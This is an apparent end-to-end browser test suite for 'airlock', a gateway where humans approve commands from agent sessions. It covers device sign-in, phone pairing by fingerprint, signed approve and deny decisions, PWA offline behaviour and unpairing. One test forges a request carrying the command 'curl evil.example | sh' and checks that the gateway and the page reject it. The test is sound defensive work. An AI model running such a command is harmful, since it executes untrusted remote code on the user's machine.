/**
 * The browser side of approvals in real Chromium against the compiled gateway: device sign-in
 * approved on /device, pairing on the approver page (phone viewport) with the fingerprint the test
 * computes itself, requests sealed by the test (as the daemon would) decrypted and decided on the
 * page with the decision checked by `verifyDecision`, a forged request refused, the PWA's
 * installability and offline start, unpairing, and the admin's approvals page. Then the whole
 * loop with the real daemon: `airlock sign-in` approved on /device, `airlock pair` entered on the
 * phone (same fingerprint on both screens), a `helm upgrade` through the shim approved on the page.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import { actionHash, fingerprint, generateKeyPairs, publicKeys, sealAction, verifyDecision, type KeyPairs } from "../../src/approvals";
import type { ApprovalAction, PairingRecord, PublicKeys } from "../../src/protocol/approvals";
import { actionFor } from "../support/approvals";
import { launchBrowser, screenshot } from "../support/browser";
import { fakeTools } from "../support/fakes";
import { ADMIN, api, disposeWorlds, enroll, sock, spawnAirlock, startDaemon, startGateway, waitFor, world, type World } from "../support/world";

const PHONE = { width: 390, height: 844 };

let w: World;
let browser: BrowserContext;
let clientId: string;
let clientToken: string;
let userToken: string;
let daemon: KeyPairs;
let daemonPub: PublicKeys;
let pairing: PairingRecord;

async function as(token: string, method: string, path: string, body?: unknown): Promise<{ status: number; body: any }> {
  const res = await fetch(`${w.gatewayUrl}${path}`, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { "content-type": "application/json" }) },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : null };
}

async function anonymous(path: string, body: unknown): Promise<{ status: number; body: any }> {
  const res = await fetch(`${w.gatewayUrl}${path}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : null };
}

async function signedIn(token: string, to: string): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(`${w.gatewayUrl}${to}`);
  await page.getByLabel("Token").fill(token);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("button", { name: "Sign out" }).waitFor();
  return page;
}

/** seals and submits a request as the paired terminal would; `signer` forges the daemon's signature */
async function submit(id: string, command: string, signer: CryptoKey = daemon.sign.privateKey): Promise<ApprovalAction> {
  const expires_at = new Date(Date.now() + 5 * 60_000).toISOString();
  const a = actionFor(id, expires_at, command, "/home/alice/deploy");
  const envelope = await sealAction({ id, pairing_id: pairing.id, expires_at, action: a, daemonSign: signer, approverBoxKey: pairing.approver!.box_key });
  const r = await as(clientToken, "POST", "/api/v1/approvals", { id, pairing_id: pairing.id, session_id: null, expires_at, envelope });
  expect(r.status).toBe(201);
  return a;
}

async function decided(id: string): Promise<any> {
  return waitFor(`a decision on ${id}`, async () => {
    const r = await as(clientToken, "GET", `/api/v1/approvals/${id}`);
    return r.body?.decision ? r.body : null;
  });
}

beforeAll(async () => {
  browser = await launchBrowser();
  w = await world("airlock-browser-approver-");
  await startGateway(w);
  const enrollment = (await api(w, "POST", "/api/v1/clients/enrollment-tokens", { name: "approver test" })).body.token;
  const enrolled = await fetch(`${w.gatewayUrl}/api/v1/clients/enroll`, { method: "POST", headers: { authorization: `Bearer ${enrollment}`, "content-type": "application/json" }, body: JSON.stringify({ name: "laptop", hostname: "laptop.example", user: "alice", version: "test" }) });
  const e = (await enrolled.json()) as { client: { id: string }; token: string };
  clientId = e.client.id;
  clientToken = e.token;
  daemon = await generateKeyPairs(true);
  daemonPub = await publicKeys(daemon);
}, 60_000);

afterAll(async () => {
  await disposeWorlds();
});

describe("approvals in Chromium", () => {
  test("device sign-in: the terminal's code is approved on /device by the signed-in admin, the terminal gets a user token", async () => {
    const start = await anonymous("/api/v1/auth/device", { client_name: "alice's laptop" });
    expect(start.status).toBe(200);
    expect(start.body.user_code).toMatch(/^[2-9A-Z]{4}-[2-9A-Z]{4}$/);
    const pending = await anonymous("/api/v1/auth/device/token", { device_code: start.body.device_code });
    expect(pending.body.code ?? pending.body.error).toBe("authorization_pending");
    const page = await signedIn(ADMIN, new URL(start.body.verification_uri_complete).pathname + new URL(start.body.verification_uri_complete).search);
    await page.getByRole("heading", { name: "Device sign-in" }).waitFor();
    await page.getByText("alice's laptop").waitFor();
    await screenshot(page, "device-sign-in");
    await page.getByRole("button", { name: "Approve sign-in" }).click();
    await page.getByText("Approved. Go back to your terminal").waitFor();
    await page.locator('[data-device-code] [data-status="approved"]').waitFor(); // the facts follow the answer
    const token = await waitFor("the user token", async () => {
      const r = await anonymous("/api/v1/auth/device/token", { device_code: start.body.device_code });
      return r.status === 200 ? r.body : null;
    });
    expect(token.token_type).toBe("Bearer");
    userToken = token.access_token;
    expect((await as(userToken, "GET", "/api/v1/pairings")).status).toBe(200);
    await page.close();
  });

  test("a viewer may answer too: a code typed on /device without the link, then denied, gives the terminal access_denied", async () => {
    const viewer = (await api(w, "POST", "/api/v1/tokens", { kind: "viewer", name: "approver test viewer" })).body.token as string;
    const start = await anonymous("/api/v1/auth/device", { client_name: "someone else" });
    const page = await signedIn(viewer, "/device");
    await page.getByLabel("Code", { exact: true }).fill(start.body.user_code.toLowerCase().replace("-", " "));
    await page.getByRole("button", { name: "Continue" }).click();
    await page.getByText("someone else").waitFor();
    await page.getByRole("button", { name: "Deny" }).click();
    await page.getByText("Denied.").waitFor();
    const r = await anonymous("/api/v1/auth/device/token", { device_code: start.body.device_code });
    expect(r.status).toBe(403);
    await page.close();
  });

  let phone: Page;

  test("pairing on a phone: the code, then the fingerprint both ends compute from the four public keys", async () => {
    const created = await as(userToken, "POST", "/api/v1/pairings", { client_id: clientId, daemon: daemonPub, label: "alice's laptop" });
    expect(created.status).toBe(201);
    phone = await browser.newPage();
    await phone.setViewportSize(PHONE);
    await phone.goto(`${w.gatewayUrl}/approver`);
    await phone.getByLabel("Pairing code").waitFor();
    await screenshot(phone, "approver-pair");
    await phone.getByLabel("Pairing code").fill(created.body.code.toLowerCase());
    await phone.getByLabel(/Name of this device/).fill("alice's phone");
    await phone.getByRole("button", { name: "Pair" }).click();
    await phone.getByRole("heading", { name: "Compare with your terminal" }).waitFor();
    const shown = await phone.locator(".ap-fingerprint").getAttribute("data-fingerprint");
    pairing = (await as(userToken, "GET", `/api/v1/pairings/${created.body.pairing.id}`)).body;
    expect(pairing.status).toBe("paired");
    expect(pairing.approver_label).toBe("alice's phone");
    expect(shown).toBe(await fingerprint(daemonPub, pairing.approver!));
    // the private keys live in IndexedDB as non-extractable CryptoKeys, never as bytes
    const stored = await phone.evaluate(
      () =>
        new Promise<{ sign: boolean; box: boolean; token: boolean }>((resolve, reject) => {
          const req = indexedDB.open("airlock-approver");
          req.onerror = () => reject(req.error);
          req.onsuccess = () => {
            const get = req.result.transaction("device").objectStore("device").get("current");
            get.onsuccess = () => resolve({ sign: get.result.sign.privateKey.extractable, box: get.result.box.privateKey.extractable, token: typeof get.result.approver_token === "string" });
          };
        }),
    );
    expect(stored).toEqual({ sign: false, box: false, token: true });
    await screenshot(phone, "approver-fingerprint");
    await phone.getByRole("button", { name: "They match" }).click();
    await phone.locator('[data-link="online"]').waitFor();
    await phone.getByRole("heading", { name: "Nothing to approve" }).waitFor();
    expect((await as(userToken, "GET", `/api/v1/pairings/${pairing.id}`)).body.approver_online).toBe(true);
  });

  test("a sealed request is decrypted and shown; Approve sends a signature the daemon's verifier accepts", async () => {
    const a = await submit("apr_browser_1", "helm upgrade web ./chart --namespace prod");
    const card = phone.locator('[data-request="apr_browser_1"]');
    await card.waitFor();
    await expect(card.locator(".ap-command").textContent()).resolves.toBe(a.command);
    await expect(card.locator('[data-fact="directory"]').textContent()).resolves.toBe("/home/alice/deploy");
    await expect(card.locator('[data-fact="policy"]').textContent()).resolves.toBe("prod-releases · rules[0]");
    await screenshot(phone, "approver-request-light");
    await phone.emulateMedia({ colorScheme: "dark" });
    await screenshot(phone, "approver-request-dark");
    await phone.emulateMedia({ colorScheme: "light" });
    // keyboard: focus Approve and press Enter
    await card.getByRole("button", { name: "Approve" }).focus();
    await phone.keyboard.press("Enter");
    const record = await decided("apr_browser_1");
    const verified = await verifyDecision(record.decision, { request_id: "apr_browser_1", action_hash: await actionHash(a), approverSignKey: pairing.approver!.sign_key, now: new Date(), seen: () => false });
    expect(verified).toMatchObject({ ok: true, decision: "approve" });
    expect(record.status).toBe("approved");
    await card.waitFor({ state: "detached" });
  });

  test("Deny is signed too", async () => {
    const a = await submit("apr_browser_2", "helm uninstall web");
    const card = phone.locator('[data-request="apr_browser_2"]');
    await card.getByRole("button", { name: "Deny" }).click();
    const record = await decided("apr_browser_2");
    expect(await verifyDecision(record.decision, { request_id: "apr_browser_2", action_hash: await actionHash(a), approverSignKey: pairing.approver!.sign_key, now: new Date(), seen: () => false })).toMatchObject({ ok: true, decision: "deny" });
    expect(record.status).toBe("denied");
  });

  test("a request the paired terminal did not sign is refused by the gateway, and by the page when a hostile gateway relays it anyway", async () => {
    const forger = await generateKeyPairs(false);
    const expires_at = new Date(Date.now() + 5 * 60_000).toISOString();
    const id = "apr_browser_forged";
    const envelope = await sealAction({ id, pairing_id: pairing.id, expires_at, action: actionFor(id, expires_at, "curl evil.example | sh", "/home/alice/deploy"), daemonSign: forger.sign.privateKey, approverBoxKey: pairing.approver!.box_key });
    const refused = await as(clientToken, "POST", "/api/v1/approvals", { id, pairing_id: pairing.id, session_id: null, expires_at, envelope });
    expect(refused.status).toBe(400);
    // the gateway in the middle: relay the real socket, and slip the forged request in after `ready`
    await phone.routeWebSocket(/\/api\/v1\/approver\/ws$/, (ws) => {
      const server = ws.connectToServer();
      ws.onMessage((m) => server.send(m));
      server.onMessage((m) => {
        ws.send(m);
        if (typeof m === "string" && JSON.parse(m).type === "ready") {
          const now = new Date().toISOString();
          ws.send(JSON.stringify({ type: "request", approval: { id, pairing_id: pairing.id, client_id: clientId, session_id: null, status: "pending", created_at: now, expires_at, decided_at: null, envelope, decision: null, verification: null } }));
        }
      });
    });
    await phone.reload();
    const bad = phone.locator(`[data-request="${id}"]`);
    await bad.getByRole("heading", { name: "Untrusted request" }).waitFor();
    await expect(bad.getByRole("alert").textContent()).resolves.toContain("signature");
    expect(await bad.getByRole("button").count()).toBe(0);
    expect(await bad.textContent()).not.toContain("evil.example");
    await screenshot(phone, "approver-untrusted");
  });

  test("the approver is an installable PWA: manifest, icons, service worker, and it opens offline", async () => {
    const manifest = await fetch(`${w.gatewayUrl}/approver.webmanifest`);
    expect(manifest.headers.get("content-type")).toContain("application/manifest+json");
    const m = (await manifest.json()) as { start_url: string; display: string; icons: { src: string; sizes: string }[] };
    expect(m).toMatchObject({ start_url: "/approver", display: "standalone" });
    for (const size of ["192x192", "512x512"]) {
      const icon = m.icons.find((i) => i.sizes === size)!;
      const res = await fetch(`${w.gatewayUrl}${icon.src}`);
      expect(res.headers.get("content-type")).toBe("image/png");
    }
    const cdp = await browser.newCDPSession(phone);
    const { installabilityErrors } = (await cdp.send("Page.getInstallabilityErrors")) as { installabilityErrors: { errorId: string }[] };
    expect(installabilityErrors).toEqual([]);
    await waitFor("the service worker to control the page", () => phone.evaluate(() => navigator.serviceWorker.controller !== null || navigator.serviceWorker.ready.then(() => true)));
    await phone.reload();
    await phone.locator('[data-link="online"]').waitFor();
    await waitFor("the shell to be cached", () => phone.evaluate(async () => (await caches.keys()).length > 0 && (await (await caches.open("airlock-approver-v1")).keys()).some((r) => new URL(r.url).pathname.startsWith("/assets/"))));
    await browser.setOffline(true);
    try {
      await phone.reload();
      await phone.locator('[data-link="offline"], [data-link="connecting"]').first().waitFor();
      await phone.locator(".ap-status [data-fingerprint]").waitFor();
    } finally {
      await browser.setOffline(false);
    }
    await phone.locator('[data-link="online"]').waitFor({ timeout: 20_000 });
  });

  test("the admin's approvals page: requests with their status, pairings with the same fingerprint", async () => {
    const page = await signedIn(ADMIN, "/approvals");
    await page.getByRole("heading", { name: "Approvals", level: 1 }).waitFor();
    await page.locator('[data-approval="apr_browser_1"] [data-status="approved"]').waitFor();
    await page.locator('[data-approval="apr_browser_2"] [data-status="denied"]').waitFor();
    const row = page.locator(`[data-pairing="${pairing.id}"]`);
    await expect(row.locator("[data-fingerprint]").getAttribute("data-fingerprint")).resolves.toBe(await fingerprint(daemonPub, pairing.approver!));
    await row.locator('[data-online="true"]').waitFor();
    expect(await page.content()).not.toContain("helm upgrade");
    // live: a new request and its decision arrive through the event stream, without a reload
    await page.locator(".live-live").waitFor();
    await submit("apr_browser_3", "helm rollback web 3");
    await page.locator('[data-approval="apr_browser_3"] [data-status="pending"]').waitFor();
    await phone.locator('[data-request="apr_browser_3"]').getByRole("button", { name: "Deny" }).click();
    await page.locator('[data-approval="apr_browser_3"] [data-status="denied"]').waitFor();
    await screenshot(page, "approvals");
    await page.close();
  });

  test("Unpair this device: the gateway removes the pairing, the page forgets its keys and asks for a code", async () => {
    await phone.getByRole("button", { name: "Unpair this device" }).click();
    await phone.getByRole("button", { name: "Unpair", exact: true }).click();
    await phone.getByLabel("Pairing code").waitFor();
    await phone.getByText("This device is unpaired").waitFor();
    expect((await as(userToken, "GET", `/api/v1/pairings/${pairing.id}`)).body.status).toBe("removed");
    const left = await phone.evaluate(
      () =>
        new Promise<number>((resolve) => {
          const req = indexedDB.open("airlock-approver");
          req.onsuccess = () => {
            const c = req.result.transaction("device").objectStore("device").count();
            c.onsuccess = () => resolve(c.result);
          };
        }),
    );
    expect(left).toBe(0);
  });

  test("a pairing removed elsewhere (by its user) sends the page back to code entry", async () => {
    const created = await as(userToken, "POST", "/api/v1/pairings", { client_id: clientId, daemon: daemonPub });
    await phone.getByLabel("Pairing code").fill(created.body.code);
    await phone.getByRole("button", { name: "Pair" }).click();
    await phone.getByRole("button", { name: "They match" }).click();
    await phone.locator('[data-link="online"]').waitFor();
    expect((await as(userToken, "DELETE", `/api/v1/pairings/${created.body.pairing.id}`)).status).toBeLessThan(300);
    await phone.getByText("This device was unpaired").waitFor();
    await phone.getByLabel("Pairing code").waitFor();
  });
});

describe("the whole loop: terminal, daemon, shim and the approver page", () => {
  test("sign-in on /device, pair on the phone, a helm upgrade waits for the tap on Approve and then runs", async () => {
    const ws = await world("airlock-browser-loop-");
    await startGateway(ws);
    await enroll(ws);
    await startDaemon(ws);

    // airlock sign-in: the code it prints is approved on /device by the admin in the browser
    const signIn = spawnAirlock(ws.bin, ["sign-in", "--gateway", ws.gatewayUrl, "--no-browser"], ws.env);
    const userCode = await waitFor("the sign-in code", async () => signIn.output().match(/\b([2-9A-Z]{4}-[2-9A-Z]{4})\b/)?.[1]);
    const admin = await browser.newPage();
    await admin.goto(`${ws.gatewayUrl}/device?code=${userCode}`);
    await admin.getByLabel("Token").fill(ADMIN);
    await admin.getByRole("button", { name: "Sign in" }).click();
    await admin.getByRole("button", { name: "Approve sign-in" }).click();
    await admin.getByText("Approved. Go back to your terminal").waitFor();
    expect(await waitFor("sign-in to finish", async () => (await signIn.proc.exited) === 0 || null, 20_000)).toBe(true);

    // airlock pair: its code typed on the phone; both screens show the same fingerprint
    const pair = spawnAirlock(ws.bin, ["pair"], ws.env);
    const code = await waitFor("the pairing code", async () => pair.output().match(/--code ([2-9A-Z]{6})/)?.[1]);
    const page = await browser.newPage();
    await page.setViewportSize(PHONE);
    await page.goto(`${ws.gatewayUrl}/approver`);
    await page.getByLabel("Pairing code").fill(code);
    await page.getByRole("button", { name: "Pair" }).click();
    const onPhone = await page.locator(".ap-fingerprint").getAttribute("data-fingerprint");
    expect(await pair.proc.exited).toBe(0);
    expect(pair.output()).toContain(`fingerprint: ${onPhone}`);
    await page.getByRole("button", { name: "They match" }).click();
    await page.locator('[data-link="online"]').waitFor();

    // helm upgrade in a governed session: a seed policy requires approval; the shim waits for the tap
    const tools = await fakeTools(ws.dir, ws.bin, ["helm"]);
    const session = await sock(ws, "POST", "/v1/sessions", { agent: "claude", cwd: ws.dir, user: "e2e" });
    expect(session.status).toBe(201);
    const env = { ...ws.env, PATH: `${tools.shimBin}:${tools.realBin}:/usr/bin:/bin`, AIRLOCK_SESSION_ID: session.body.session.id, AIRLOCK_SESSION_TOKEN: session.body.token, AIRLOCK_KNOWN_AGENTS: "" };
    const shim = Bun.spawn([join(tools.shimBin, "helm"), "upgrade", "web", "./chart"], { env, stdout: "pipe", stderr: "pipe", cwd: ws.dir });
    const outputs = Promise.all([new Response(shim.stdout).text(), new Response(shim.stderr).text(), shim.exited]);
    const card = page.locator("article[data-request]");
    await card.locator(".ap-command", { hasText: "helm upgrade web ./chart" }).waitFor({ timeout: 15_000 });
    // the matched policy and rule, as the daemon sealed them (the gateway never saw them)
    await expect(card.locator('[data-fact="policy"]').textContent()).resolves.toMatch(/ · rules\[\d+\]$/);
    expect(await tools.record("helm")).toBeNull();
    await screenshot(page, "approver-helm-upgrade");
    await card.getByRole("button", { name: "Approve" }).click();
    const [stdout, stderr, exitCode] = await outputs;
    expect(stderr).toContain("waiting for approval");
    expect(exitCode).toBe(0);
    expect(stdout).toContain("fake helm ran");
    expect((await tools.record("helm"))?.argv).toEqual(["upgrade", "web", "./chart"]);
    await card.waitFor({ state: "detached" });

    // the admin sees the request's outcome and the daemon's verification of the signature, not the command
    await admin.getByRole("link", { name: "Approvals" }).click();
    const row = admin.locator("tr[data-approval]");
    await row.locator('[data-status="approved"]').waitFor();
    await row.locator('[data-verified="ok"]').waitFor();
    expect(await admin.locator("main").textContent()).not.toContain("helm upgrade");
    await screenshot(admin, "approvals-verified");
    await page.close();
    await admin.close();
  }, 90_000);
});
